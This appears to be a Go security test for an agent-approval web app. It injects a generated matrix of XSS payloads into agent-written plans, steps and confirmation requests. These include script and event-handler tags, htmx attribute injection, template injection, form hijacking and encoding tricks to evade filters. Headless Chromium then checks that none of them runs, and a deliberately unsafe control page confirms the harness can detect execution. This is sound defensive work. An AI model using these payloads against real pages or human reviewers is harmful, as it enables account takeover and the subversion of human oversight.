package main

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"countersign/domain"
	"countersign/domain/mplp"
)

// What a payload does when it is obeyed.
const (
	obeys     = `top.hacked=1`
	elsewhere = `//127.0.0.2:65535/hostile` // nobody answers there
)

// A payload leaves what it stands in, does harm, and is in disguise.
var (
	escapes = []string{"", `">`, `'>`, "`>", `-->`, `]]>`, `</title>`, `</textarea>`, `</style>`, `</script>`, `</svg>`, `</pre></code></blockquote>`}
	harms   = []string{
		`<script>` + obeys + `</script>`, `<script src=` + elsewhere + `></script>`, `<script type=module>` + obeys + `</script>`,
		`<img src=/hostile onerror=` + obeys + `>`, `<img src=` + elsewhere + `>`, `<svg onload=` + obeys + `>`, `<body onload=` + obeys + `>`,
		`<svg><animate onbegin=` + obeys + ` attributeName=x dur=1s>`, `<svg><script>` + obeys + `</script></svg>`, `<svg><image href=` + elsewhere + `>`,
		`<math><mtext><style><img title="</style><img src onerror=` + obeys + `>">`, `<noscript><p title="</noscript><img src onerror=` + obeys + `>">`,
		`<input autofocus onfocus=` + obeys + `>`, `<details open ontoggle=` + obeys + `>`, `<video src=` + elsewhere + ` onerror=` + obeys + `>`,
		`<iframe srcdoc="<script>` + obeys + `</script>"></iframe>`, `<iframe src=javascript:` + obeys + `></iframe>`, `<iframe src=` + elsewhere + `></iframe>`,
		`<object data=` + elsewhere + `></object>`, `<embed src=` + elsewhere + `>`, `<link rel=stylesheet href=` + elsewhere + `>`, `<style>@import "` + elsewhere + `"</style>`,
		`<div style="background:url(` + elsewhere + `)">x</div>`, `<meta http-equiv=refresh content="0;url=` + elsewhere + `">`, `<base href=` + elsewhere + `><img src=x>`,
		`<template shadowrootmode=open><img src onerror=` + obeys + `></template>`, `" autofocus onfocus=` + obeys + ` tabindex=0 x="`, `' style='background:url(` + elsewhere + `)' x='`,
		`<div hx-get=/hostile hx-trigger=load>x</div>`, `<div data-hx-get=/hostile data-hx-trigger=load>x</div>`, `" hx-get="/hostile" hx-trigger="load" x="`,
		`<div hx-on:load="` + obeys + `">x</div>`, `<div hx-sse:connect=/hostile>x</div>`, `<hx-partial hx-target=body>x</hx-partial>`, `{{constructor.constructor("` + obeys + `")()}}`,
		`<form action=` + elsewhere + ` id=decision-form><button name=decision value=approve>OK</button></form>`, `javascript:` + obeys,
	}
	disguises = []func(string) string{
		func(text string) string { return text },
		strings.ToUpper,
		strings.NewReplacer(" ", "/").Replace,
		strings.NewReplacer(" ", "\t\n").Replace,
		strings.NewReplacer("=", "\x00=").Replace,
		strings.NewReplacer("<", "<\u200b", "on", "o\u00adn").Replace,
		strings.NewReplacer("<", "＜", ">", "＞", `"`, "＂").Replace,
		strings.NewReplacer("<", "&lt;", ">", "&gt;", `"`, "&quot;").Replace,
		strings.NewReplacer("<", `\u003c`, ">", `\u003e`, `"`, `\u0022`).Replace,
		url.QueryEscape,
	}
)

// payloads lists every combination, in any order.
func payloads(b *bar) (list []string) {
	for _, escape := range escapes {
		for _, harm := range harms {
			for _, disguise := range disguises {
				list = append(list, disguise(escape+harm))
			}
		}
	}
	b.random(0).Shuffle(len(list), func(i, k int) { list[i], list[k] = list[k], list[i] })
	return list
}

// payloadsPerPage is how many rows, steps and actions show one each.
const payloadsPerPage = 50

// TestBarR10_HostileScripts shows in Chromium what agents write to harm whoever
// reads it: no script runs, nothing else is asked for, no dialog opens, and the
// browser has nothing to complain of. On a page that shows the same as it is
// much of that happens, and the harness sees it.
func TestBarR10_HostileScripts(t *testing.T) {
	takeTurn(t)
	b, _ := newBar(t, "R10 scripts", 0, 0)
	all := payloads(b)
	h := newHouse(t, tempDB(t))
	h.user("reader", "admin")
	_, agent := h.key(domain.KeyInput{Name: "agent", Roles: []string{"planner", "executor", "architect", "admin"}})
	s := &stage{running: &running{base: h.http.URL}, t: t}
	p := s.signsIn("reader")
	pages := 0
	for set := range slices.Chunk(all[:sized(payloadsPerPage, len(all))], payloadsPerPage) {
		confirms, paths := shows(h, agent, fmt.Sprintf("set%05d", b.n.Load()), set)
		for _, path := range paths {
			p.open(path)
			p.live()
			if p.is(`window.hacked`) || p.path() != strings.Split(path, "?")[0] {
				b.violated("%s: the page obeys", path)
			}
			pages++
		}
		if rows := p.count("li.row"); rows != len(set) {
			b.violated("%d rows of %d\n%s", rows, len(set), p)
		}
		for _, id := range confirms {
			if _, err := h.CancelConfirm(t.Context(), agent, id, set[0]); err != nil {
				t.Fatal(err)
			}
		}
		b.n.Add(int64(len(set)))
	}
	for _, address := range p.requested() {
		if strings.Contains(strings.ToLower(strings.Split(address, "?")[0]), "hostile") || !strings.HasPrefix(address, s.base) {
			b.violated("the page asked for %s", address)
		}
	}
	b.violations.Add(int64(p.complained())) // which fail the test
	b.figure("pages", pages)

	controls := all[:sized(payloadsPerPage, 500)]
	ran, asked := obeyed(t, controls)
	b.figure("careless_payloads", len(controls))
	b.figure("careless_scripts", ran)
	b.figure("careless_requests", asked)
	if ran == 0 || asked == 0 {
		b.violated("a page that shows everything as it is does no harm: the harness sees nothing")
	}
}

// shows writes objects that hold the texts, and lists the pages to read them on,
// a row for each at last.
func shows(h *house, agent domain.Ref, id string, texts []string) (confirms, paths []string) {
	h.t.Helper()
	post := func(confirm, target, reason string, actions ...string) {
		h.post(agent, fmt.Sprintf(`{"confirm_id":%q,"target_type":"other","target_id":%q,"reason":%s,"actions":[%s],"requested_by_role":"admin"}`,
			confirm, target, reason, strings.Join(actions, ",")))
		confirms = append(confirms, confirm)
	}
	var steps, actions []string
	for i, text := range texts {
		quoted := jsonString(text)
		steps = append(steps, fmt.Sprintf(`{"step_id":"s%d","description":%s,"agent_role":%s}`, i, quoted, quoted))
		actions = append(actions, fmt.Sprintf(`{"name":%s,"description":%s,"args":{%s:[%s]}}`, jsonString(nameable(text)), quoted, quoted, quoted))
		post(fmt.Sprintf("%s-%d", id, i), id, quoted, actions[i])
	}
	first := jsonString(texts[0])
	plan, err := mplp.ParsePlan(fmt.Appendf(nil, `{"plan_id":%q,"context_id":%q,"title":%s,"objective":%s,"trace":{"trace_id":%q,"span_id":"s"},"steps":[%s]}`,
		id, id, first, first, id, strings.Join(steps, ",")), h.Limits().MPLP())
	if err == nil {
		_, err = h.PostPlan(h.t.Context(), agent, plan)
	}
	if err != nil {
		h.t.Fatal(err)
	}
	paths = []string{"/plans/" + id, "/plans", "/traces/" + id, "/log", "/confirms?q=" + url.QueryEscape(texts[0])}
	for part := range slices.Chunk(actions, h.Limits().Actions) {
		confirm := fmt.Sprintf("all-%d-of-%s", len(paths), id)
		post(confirm, "all", first, part...)
		paths = append(paths, "/confirms/"+confirm)
	}
	return confirms, append(paths, "/confirms?status=decided", "/confirms?q="+id)
}

// obeyed counts the scripts that run and the hostile requests where texts are
// shown as they are, each in a frame of its own.
func obeyed(t *testing.T, texts []string) (scripts, requests int) {
	careless := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		if n, err := strconv.Atoi(r.URL.Path[1:]); err == nil {
			fmt.Fprintf(w, `<!doctype html><title>%s</title><p title="%[1]s">%[1]s</p>`, texts[n])
			return
		}
		fmt.Fprint(w, `<!doctype html><script>var ran = 0; Object.defineProperty(window, "hacked", {set() { ran++ }})</script>`)
		for n := range texts {
			fmt.Fprintf(w, `<iframe src="/%d"></iframe>`, n)
		}
	}))
	defer careless.Close()
	window := chromium.window(t)
	heard := listen(window)
	if err := chromedp.Run(window, chromedp.Navigate(careless.URL), chromedp.Evaluate(`ran`, &scripts)); err != nil {
		t.Fatal(err)
	}
	for _, address := range heard.requested() {
		if strings.Contains(strings.ToLower(address), "hostile") {
			requests++
		}
	}
	return scripts, requests
}
